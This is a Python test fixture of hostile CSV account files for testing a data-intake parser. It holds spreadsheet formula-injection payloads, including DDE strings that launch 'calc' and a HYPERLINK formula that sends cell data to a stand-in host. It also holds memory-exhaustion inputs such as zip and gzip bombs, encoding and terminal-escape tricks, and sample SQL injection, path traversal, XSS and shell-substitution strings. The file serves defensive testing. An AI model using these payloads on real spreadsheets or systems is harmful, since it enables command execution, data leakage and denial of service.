"""CSV files that are sent to do harm: to whoever opens what comes of them, to the memory, or to files elsewhere.

Each is a file of accounts. ``tests/stories/test_intake_faults.py`` has the mistakes that people make.
"""

from __future__ import annotations

import gzip
import io
import zipfile
from dataclasses import dataclass
from typing import Final

HEAD: Final = b"key,name,segment,arr,renewal,health\n"
GOOD: Final = b"good,Good Corp,smb,100,2027-01-31,50\n"


@dataclass(frozen=True)
class Hostile:
    """``data`` is the file. ``whole``: nothing of it can be used; else its good line goes in."""

    title: str
    data: bytes
    whole: bool = False


def named(title: str, name: str | bytes) -> Hostile:
    """An account of that name, and a good one after it."""
    raw = name.encode() if isinstance(name, str) else name
    quoted = b'"' + raw.replace(b'"', b'""') + b'"'
    return Hostile(title, HEAD + b"evil," + quoted + b",smb,1,2027-01-31,1\n" + GOOD)


def line(title: str, raw: bytes) -> Hostile:
    """Any line, and a good one after it."""
    return Hostile(title, HEAD + raw + b"\n" + GOOD)


def file(title: str, data: bytes) -> Hostile:
    return Hostile(title, data, whole=True)


def _zip(name: str, data: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return held.getvalue()


HOSTILE: Final = (
    # --- what a spreadsheet runs
    named("a formula", '=HYPERLINK("http://x.example/?"&A1,"Pay")'),
    named("a formula after a plus", "+1+cmd|' /C calc'!A0"),
    named("a formula after a minus", "-2+3+cmd|' /C calc'!A0"),
    named("a formula after an at sign", "@SUM(1+1)*cmd|' /C calc'!A0"),
    named("a pipe", "|calc"),
    named("a formula after a tab", "\t=1+1"),
    named("a formula after a return", "\r=1+1"),
    named("a formula after spaces", "   =1+1"),
    named("a formula after a space that does not break", "\u00a0=1+1"),
    named("a formula after a space of East Asia", "\u3000=1+1"),
    named("a formula after what nobody sees", "\u200b\ufeff=1+1"),
    named("a full-width formula", "＝1+1"),
    named("a full-width plus after spaces", "  ＋1+1"),
    named("a full-width at sign", "＠SUM(1)"),
    named("a formula after a line", "\n=1+1"),
    line("a formula for a key", b"=1+1,Evil,smb,1,2027-01-31,1"),
    line("a formula for an amount", b"evil,Evil,smb,=1+1,2027-01-31,1"),
    line("a formula in a line of too many fields", b"evil,=1+1,smb,1,2027-01-31,1,=2+2"),
    Hostile("a formula for a heading", HEAD.replace(b"segment", b"=1+1") + b",Evil,,x,,\n" + GOOD),
    # --- what fills the memory
    file("a heading with 100,000 columns", b"key,name" + b",x" * 100_000 + b"\n" + GOOD),
    line("a line with 300,000 fields", b"evil,Evil" + b"," * 300_000),
    line("a field of 3 MB", b"evil," + b"x" * 3_000_000 + b",smb,1,2027-01-31,1"),
    line("a quoted field of 3 MB", b'evil,"' + b"x" * 3_000_000 + b'",smb,1,2027-01-31,1'),
    line("a quote that is never closed", b'evil,"Evil,smb,1,2027-01-31,1' + b"\nx" * 3_000),
    line("a long text after a quote that is never closed", b'evil,"' + b"x" * 60_000),
    line("a long text around a quote in its middle", b'evil,"' + b"x" * 30_000 + b'"' + b"x" * 30_000),
    line("300,000 quotes", b"evil," + b'"' * 300_001 + b",smb,1,2027-01-31,1"),
    line("a number of 50,000 digits", b"evil,Evil,smb," + b"9" * 50_000 + b",2027-01-31,1"),
    line("a number with an exponent of a billion", b"evil,Evil,smb,1e1000000000,2027-01-31,1"),
    file("ten million zeros, zipped", _zip("accounts.csv", b"0" * 10_000_000)),
    file("ten million zeros, packed", gzip.compress(b"0" * 10_000_000)),
    # --- what is no text
    file("UTF-16", (HEAD + GOOD).decode().encode("utf-16")),
    file("UTF-32", (HEAD + GOOD).decode().encode("utf-32")),
    named("a NUL", b"Ev\0il"),
    named("Latin-1", b"Caf\xe9"),
    named("an overlong slash", b"..\xc0\xaf..\xc0\xafetc"),
    named("half a letter", b"\xed\xa0\x80"),
    named("an escape sequence of terminals", b"\x1b[2J\x1b]0;pwned\x07"),
    file("lines that end with a return alone", (HEAD + GOOD).replace(b"\n", b"\r")),
    # --- what is no date and no number
    line("the end of the calendar", b"evil,Evil,smb,1,9999-12-31,1"),
    line("a year without a number", b"evil,Evil,smb,1,0000-00-00,1"),
    line("no number at all", b"evil,Evil,smb,nan,2027-01-31,1"),
    line("more than there is", b"evil,Evil,smb,inf,2027-01-31,1"),
    line("digits of another script", "evil,Evil,smb,٣٤,2027-01-31,1".encode()),
)

HARMLESS: Final = (
    "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}",
    "Robert'); DROP TABLE account;--",
    "../../../etc/passwd",
    "<script>alert(1)</script>",
    "<!channel> <@U1> <https://x.example|Pay>",
    "%s%s%n ${HOME} $(id) `id`",
    "a\u202egnp.exe",
    "[bold red]x[/]",
)
"""Text that is taken as it stands, because it is text wherever it goes."""
